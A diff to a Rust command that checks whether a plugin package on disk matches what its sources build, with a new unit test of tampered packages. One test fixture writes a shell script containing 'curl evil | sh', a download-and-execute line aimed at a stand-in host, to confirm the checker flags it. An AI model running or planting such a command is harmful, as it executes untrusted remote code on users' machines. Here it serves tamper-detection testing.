@@ -3,7 +3,7 @@
 use std::collections::BTreeSet;
 use std::path::PathBuf;
 
-use anyhow::{Result, ensure};
+use anyhow::{Context, Result, ensure};
 use clap::Args;
 use serde_json::json;
 
@@ -41,7 +41,8 @@ pub(crate) fn run(options: &Options) -> Result<Done> {
     let (mut text, mut rows) = (Text::new(), Vec::new());
     let mut is_clean = true;
     for folder in folders {
-        let given = package::read(&folder)?;
+        let files = package::read_files(&folder)?.with_context(|| format!("{folder} does not exist"))?;
+        let given = package::of_files(&files).with_context(|| format!("reading the package {folder}"))?;
         let names: BTreeSet<String> = given
             .origin
             .hooks
@@ -57,7 +58,7 @@ pub(crate) fn run(options: &Options) -> Result<Done> {
         }
         let platforms = given.programs.keys().copied().collect();
         let built = made::plugin(&workspace, &given.origin.name, &all, Some(&names), &platforms)?;
-        let differing = differing(&given, &built)?;
+        let differing = differing(&given, &files, &built)?;
         let path = shown(&folder.path());
         match differing.is_empty() {
             true => text
@@ -68,7 +69,7 @@ pub(crate) fn run(options: &Options) -> Result<Done> {
             false => text.path(path).plain(" differs from what the sources here produce:\n"),
         };
         for (file, why) in &differing {
-            text.plain(format_args!("  {file}: {why}\n"));
+            text.plain(format_args!("  {}: {why}\n", one_line(file)));
             rows.push(row("difference", json!({"name": file, "what": why}))?);
         }
         let summary = json!({
@@ -87,7 +88,9 @@ pub(crate) fn run(options: &Options) -> Result<Done> {
 }
 
 /// Returns the files that differ, and the reason of each as far as it is known; causes come first.
-fn differing(given: &Plugin, built: &Plugin) -> Result<Vec<(String, String)>> {
+///
+/// The files are those on disk: what could be made of `given` says nothing about them.
+fn differing(given: &Plugin, files: &Tree, built: &Plugin) -> Result<Vec<(String, String)>> {
     let mut found = Vec::new();
     if given.origin.hookkit != built.origin.hookkit {
         let why = format!(
@@ -112,11 +115,12 @@ fn differing(given: &Plugin, built: &Plugin) -> Result<Vec<(String, String)>> {
             found.push((format!("compiler of {platform}"), why));
         }
     }
-    let (given, built): (Tree, Tree) = (given.files()?, built.files()?);
-    let paths: BTreeSet<&String> = given.0.keys().chain(built.0.keys()).collect();
+    let built = built.files()?;
+    let paths: BTreeSet<&String> = files.0.keys().chain(built.0.keys()).collect();
     for path in paths {
-        let why = match (given.0.get(path), built.0.get(path)) {
+        let why = match (files.0.get(path), built.0.get(path)) {
             (Some(given), Some(built)) if given == built => continue,
+            (Some(given), Some(built)) if given.bytes == built.bytes => "it is executable in only one of the two",
             (Some(_), Some(_)) => "its bytes differ",
             (Some(_), None) => "it does not belong to the package",
             _ => "it is missing in the package",
@@ -124,4 +128,46 @@ fn differing(given: &Plugin, built: &Plugin) -> Result<Vec<(String, String)>> {
         found.push((path.clone(), why.to_owned()));
     }
     Ok(found)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::build::platform::Platform;
+    use crate::settings::plugin::contents;
+    use crate::settings::plugin::contents::tests::plugin;
+
+    /// Adds the list of the files as they are now: anybody can write one.
+    fn listed(mut files: Tree) -> Tree {
+        files.add("SHA256SUMS", contents::sums(&files));
+        files
+    }
+
+    #[test]
+    fn a_file_that_packages_generate_is_compared_too() {
+        let built = plugin(&[Platform::LinuxX86]);
+        let made = built.files().unwrap();
+        assert!(differing(&built, &made, &built).unwrap().is_empty());
+        let changes: [(&str, fn(&mut Tree)); 5] = [
+            ("bin/acme", |tree| {
+                tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")
+            }),
+            ("hooks/hooks.json", |tree| tree.add("hooks/hooks.json", "{}")),
+            (".mcp.json", |tree| tree.add(".mcp.json", "{}")),
+            ("README.md", |tree| drop(tree.0.remove("README.md"))),
+            ("LICENSES.txt", |tree| {
+                let text = tree.bytes("LICENSES.txt").unwrap().to_vec();
+                tree.add_program("LICENSES.txt", text);
+            }),
+        ];
+        for (path, change) in changes {
+            let mut files = made.clone();
+            change(&mut files);
+            let files = listed(files);
+            package::check_sums(&files).unwrap();
+            let given = package::of_files(&files).unwrap();
+            let found = differing(&given, &files, &built).unwrap();
+            assert!(found.iter().any(|(name, _)| name == path), "{path}: {found:?}");
+        }
+    }
 }
